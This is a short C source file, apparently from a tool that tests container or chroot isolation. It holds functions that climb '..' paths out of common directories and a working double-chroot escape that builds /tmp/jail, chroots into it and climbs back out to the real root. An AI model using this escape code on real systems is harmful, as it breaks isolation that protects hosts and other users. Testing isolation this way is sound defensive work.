// SPDX-License-Identifier: MIT
/* Attacks by paths that lead up and out of a root directory. */
#include "attack.h"

#include <sys/stat.h>

/* Follows one ".." after the other. */
static void climb(const char *from)
{
	char how[256];

	if (chdir(from) < 0)
		return;
	for (int i = 0; i < 12; i++) {
		snprintf(how, sizeof(how), "%s and %d times ..", from, i);
		look_from(AT_FDCWD, how);
		if (chdir("..") < 0)
			break;
	}
}

/* Climbs from each of ARGS, and from directories that every container has. */
void attack_dotdot(char **args)
{
	static const char *const usual[] = {
		".",	   "/",	       "/..",	  "/bin/..",	    "/proc/..",
		"/dev/..", "/dev/pts", "/sys/..", "/proc/self/cwd", "/proc/self/root/..",
		"/tmp/.."
	};
	char up[512] = "";

	for (size_t i = 0; i < sizeof(usual) / sizeof(*usual); i++)
		climb(usual[i]);
	for (; *args; args++) {
		climb(*args);
		snprintf(up, sizeof(up), "%s/..", *args);
		climb(up);
	}
}

/* Enters a second root directory below the working directory, which is then outside of it. */
void attack_chroot(char **args)
{
	(void)args;
	mkdir("/tmp/jail", 0755);
	if (chdir("/") < 0 || chroot("/tmp/jail") < 0) {
		printf("chroot: %s\n", strerror(errno));
		return;
	}
	climb(".");
	if (chroot(".") == 0)
		look_in("/");
}
